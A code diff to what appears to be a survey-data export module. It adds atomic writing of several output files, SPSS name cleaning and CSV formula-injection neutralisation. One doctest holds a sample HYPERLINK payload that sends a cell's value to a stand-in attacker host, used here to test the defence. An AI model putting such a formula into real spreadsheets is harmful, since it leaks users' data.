@@ -5,6 +5,11 @@ and every item, named ``<instrument>_<item>`` (``_then`` for retrospective ratin
 ``.sav`` file carries the item texts as variable labels and the response labels as value
 labels. Files are written atomically: a failed export leaves no half-written file.
 
+Every output of one command is written by :func:`write_outputs`: into a scratch folder
+inside the output folder, then renamed into place together, so a command's outputs appear
+together or not at all. CSV cells that a spreadsheet would run as a formula are neutralised
+(:func:`neutralise_formulas`).
+
 Examples
 --------
 >>> from impact.pipeline import load_programme
@@ -18,8 +23,13 @@ True
 
 from __future__ import annotations
 
+import contextlib
+import errno
 import os
+import re
+import shutil
 import tempfile
+import unicodedata
 from collections.abc import Callable, Iterable
 from pathlib import Path
 
@@ -28,7 +38,7 @@ import pandas as pd
 
 from impact.clean import Cleaned
 from impact.definitions import Instrument
-from impact.errors import InputError
+from impact.errors import ImpactError, InputError, OutputError
 
 EXPORT_FORMATS = ("csv", "parquet", "sav")
 EXPORT_NAME = "cleaned"
@@ -128,6 +138,210 @@ def _atomic(path: Path, write: Callable[[Path], None]) -> None:
         raise
 
 
+# OWASP's list for CSV injection: a cell starting with one of these is a formula to Excel,
+# LibreOffice and Google Sheets (tab and carriage return start one in some of them).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")
+
+
+def neutralise_formula(value: object) -> object:
+    """A cell as text that no spreadsheet runs: a leading ``'`` before a formula start.
+
+    A plain number (``-9``, ``+3.5``) is left as it is: a spreadsheet reads it as a number,
+    not a formula.
+
+    Examples
+    --------
+    >>> print(neutralise_formula('=HYPERLINK("http://evil.example/"&B2)'))
+    '=HYPERLINK("http://evil.example/"&B2)
+    >>> neutralise_formula("-9"), neutralise_formula("@SUM(A1)"), neutralise_formula(3.0)
+    ('-9', "'@SUM(A1)", 3.0)
+    """
+    risky = isinstance(value, str) and value.startswith(FORMULA_STARTS)
+    return "'" + value if risky and not _PLAIN_NUMBER.fullmatch(value) else value
+
+
+def neutralise_formulas(table: pd.DataFrame) -> pd.DataFrame:
+    """The table with every text cell and column name passed through
+    :func:`neutralise_formula` (categoricals by their categories: one call per distinct
+    value). Numbers are not touched.
+
+    Examples
+    --------
+    >>> neutralise_formulas(pd.DataFrame({"code": ["=1+1", "AB12CD"], "x": [1.0, -2.0]}))
+        code    x
+    0  '=1+1  1.0
+    1  AB12CD -2.0
+    """
+    result = table.copy(deep=False)
+    for column in result.columns:
+        values = result[column]
+        if isinstance(values.dtype, pd.CategoricalDtype):
+            categories = values.cat.categories
+            if categories.dtype == object or pd.api.types.is_string_dtype(categories):
+                renamed = [neutralise_formula(c) for c in categories]
+                if renamed != list(categories):
+                    result[column] = values.cat.rename_categories(renamed)
+        elif values.dtype == object or pd.api.types.is_string_dtype(values):
+            risky = values.astype("str").str.startswith(FORMULA_STARTS).fillna(False)
+            if risky.any():
+                result[column] = values.astype(object).where(
+                    ~risky.to_numpy(), values[risky.to_numpy()].map(neutralise_formula)
+                )
+    result.columns = [neutralise_formula(str(c)) for c in result.columns]
+    return result
+
+
+def csv_writer(table: pd.DataFrame) -> Callable[[Path], None]:
+    """A writer of the table as UTF-8 CSV, formulas neutralised (for :func:`write_outputs`)."""
+
+    def write(path: Path) -> None:
+        neutralise_formulas(table).to_csv(path, index=False, encoding="utf-8")
+
+    return write
+
+
+IMPORT_SCRATCH = "import"
+_SPACE_HINTS = {
+    errno.ENOSPC: "the disk is full: free some space and run again",
+    errno.EDQUOT: "the disk quota is used up: free some space and run again",
+    errno.EROFS: "the folder is on a read-only file system: choose another with --out",
+    errno.EACCES: "the folder is not writable: choose another with --out",
+    errno.EPERM: "the folder is not writable: choose another with --out",
+}
+
+
+def _output_error(out: Path, name: str, error: BaseException) -> OutputError:
+    if isinstance(error, OSError):
+        code = errno.errorcode.get(error.errno or 0)
+        reason = (error.strerror or str(error)) + (f" [{code}]" if code else "")
+        hint = _SPACE_HINTS.get(error.errno or 0, "check the output folder")
+    else:
+        reason, hint = (
+            " ".join(str(error).split()) or type(error).__name__,
+            "check the output folder",
+        )
+    return OutputError(
+        f"cannot write {name} into {str(out)!r}: {reason} ({hint}); none of the outputs was written"
+    )
+
+
+def _remove_stale(out: Path, names: Iterable[str]) -> None:
+    """Scratch folders of dead processes, and temporary files of an interrupted write
+    (``.cleaned.sav.….tmp``) of the outputs about to be written."""
+    from impact.report import remove_stale_scratch
+
+    remove_stale_scratch(out)
+    for name in names:
+        for stale in out.glob(f".{name}.*.tmp"):
+            stale.unlink(missing_ok=True)
+
+
+def write_outputs(out: str | Path, writers: dict[str, Callable[[Path], None]]) -> list[Path]:
+    """Write the outputs of one command so that they appear together or not at all.
+
+    Each writer writes its file into a scratch folder ``.impact-<pid>-import-…`` inside
+    ``out``; once all are written they are renamed into place under the folder's lock
+    (:func:`impact.report.folder_lock`). A failure removes the scratch folder and any file
+    of this run already renamed; scratch folders and temporary files of dead processes
+    are removed first.
+
+    Parameters
+    ----------
+    out : str or Path
+        The output folder (created if missing).
+    writers : dict
+        File name → a function writing that file to the path it is given.
+
+    Returns
+    -------
+    list of Path
+        The files written, in the order of ``writers``.
+
+    Raises
+    ------
+    OutputError
+        When a file cannot be written or renamed (full disk, read-only folder …),
+        naming the file, the folder and the reason.
+    """
+    from impact.report import SCRATCH_PREFIX, folder_lock
+
+    out = Path(out)
+    created = [folder for folder in (out, *out.parents) if not folder.exists()]
+    try:
+        out.mkdir(parents=True, exist_ok=True)
+        _remove_stale(out, writers)
+        scratch = Path(
+            tempfile.mkdtemp(prefix=f"{SCRATCH_PREFIX}{os.getpid()}-{IMPORT_SCRATCH}-", dir=out)
+        )
+    except OSError as error:
+        raise _output_error(out, "the output folder", error) from None
+    try:
+        for name, write in writers.items():
+            try:
+                write(scratch / name)
+            except ImpactError:
+                raise
+            except Exception as error:  # pyreadstat, pyarrow and the OS raise many kinds
+                raise _output_error(out, name, error) from None
+        placed: list[Path] = []
+        with folder_lock(out):
+            try:
+                for name in writers:
+                    os.replace(scratch / name, out / name)
+                    placed.append(out / name)
+            except OSError as error:
+                for path in placed:
+                    path.unlink(missing_ok=True)
+                raise _output_error(out, name, error) from None
+    except BaseException:
+        shutil.rmtree(scratch, ignore_errors=True)
+        for folder in created:  # the folders this call made, innermost first
+            with contextlib.suppress(OSError):
+                folder.rmdir()
+        raise
+    shutil.rmtree(scratch, ignore_errors=True)
+    return [out / name for name in writers]
+
+
+# Words SPSS reserves, which no variable may be called.
+SPSS_RESERVED = {"ALL", "AND", "BY", "EQ", "GE", "GT", "LE", "LT", "NE", "NOT", "OR", "TO", "WITH"}
+SPSS_NAME_BYTES = 64
+
+
+def spss_names(columns: Iterable[str]) -> dict[str, str]:
+    """A valid, distinct SPSS variable name for each column (most keep theirs).
+
+    SPSS names start with a letter, hold letters, digits and ``_ . @ # $``, are at most 64
+    bytes, are no reserved word and are distinct regardless of case. Other characters
+    become ``_``, a name not starting with a letter gets a ``v`` in front, and repeats a
+    number; the original name is kept as the variable label.
+
+    Examples
+    --------
+    >>> list(spss_names(["sector group", "1st-role", "ALL", "Größe", "sector_group"]).values())
+    ['sector_group', 'v1st_role', 'ALL_', 'Größe', 'sector_group_2']
+    """
+    names: dict[str, str] = {}
+    taken: set[str] = set()
+    for column in columns:
+        text = unicodedata.normalize("NFC", str(column))
+        name = "".join(c if c.isalnum() or c in "_.@#$" else "_" for c in text) or "v"
+        if not name[0].isalpha():
+            name = "v" + name
+        if name.upper() in SPSS_RESERVED:
+            name += "_"
+        while len(name.encode("utf-8")) > SPSS_NAME_BYTES - 4:
+            name = name[:-1]
+        base, number = name, 1
+        while name.casefold() in taken:
+            number += 1
+            name = f"{base}_{number}"
+        taken.add(name.casefold())
+        names[column] = name
+    return names
+
+
 def _labels(
     table: pd.DataFrame, instruments: dict[str, Instrument], language: str
 ) -> tuple[dict[str, str], dict[str, dict[float, str]]]:
@@ -185,26 +399,37 @@ def export(
     InputError
         For an unknown export format (before anything is written).
     """
+    return write_outputs(
+        out, export_writers(cleaned, instruments, formats=formats, language=language)
+    )
+
+
+def export_writers(
+    cleaned: Cleaned,
+    instruments: dict[str, Instrument],
+    *,
+    formats: Iterable[str] = ("csv",),
+    language: str = "en",
+) -> dict[str, Callable[[Path], None]]:
+    """File name → writer of the wide cleaned table in each format, for
+    :func:`write_outputs` (see :func:`export`)."""
     formats = list(dict.fromkeys(formats))
     unknown = [f for f in formats if f not in EXPORT_FORMATS]
     if unknown:
         raise InputError(
             f"unknown export format(s) {unknown}", hint=f"choose from {list(EXPORT_FORMATS)}"
         )
-    out = Path(out)
-    out.mkdir(parents=True, exist_ok=True)
     table = wide(cleaned, instruments)
-    written = []
+    writers: dict[str, Callable[[Path], None]] = {}
     for kind in formats:
-        path = out / f"{EXPORT_NAME}.{kind}"
+        name = f"{EXPORT_NAME}.{kind}"
         if kind == "csv":
-            _atomic(path, lambda p: table.to_csv(p, index=False, encoding="utf-8"))
+            writers[name] = csv_writer(table)
         elif kind == "parquet":
-            _atomic(path, lambda p: table.to_parquet(p, index=False))
+            writers[name] = lambda p: table.to_parquet(p, index=False)
         else:
-            _atomic(path, lambda p: _write_sav(table, p, instruments, language))
-        written.append(path)
-    return written
+            writers[name] = lambda p: _write_sav(table, p, instruments, language)
+    return writers
 
 
 def _write_sav(
@@ -225,13 +450,24 @@ def _write_sav(
         c: "scale" if c in value_labels and c != "wave" else "nominal" for c in frame.columns
     }
     measures["wave"] = "ordinal"
+    names = spss_names(frame.columns)
     pyreadstat.write_sav(
-        frame,
+        frame.rename(columns=names),
         str(path),
-        column_labels={c: variable_labels.get(c, c) for c in frame.columns},
-        variable_value_labels=value_labels,
-        variable_measure=measures,
+        column_labels={names[c]: variable_labels.get(c, c) for c in frame.columns},
+        variable_value_labels={names[c]: v for c, v in value_labels.items()},
+        variable_measure={names[c]: v for c, v in measures.items()},
     )
 
 
-__all__ = ["EXPORT_FORMATS", "export", "item_column", "wide"]
+__all__ = [
+    "EXPORT_FORMATS",
+    "csv_writer",
+    "export",
+    "export_writers",
+    "item_column",
+    "neutralise_formulas",
+    "spss_names",
+    "wide",
+    "write_outputs",
+]
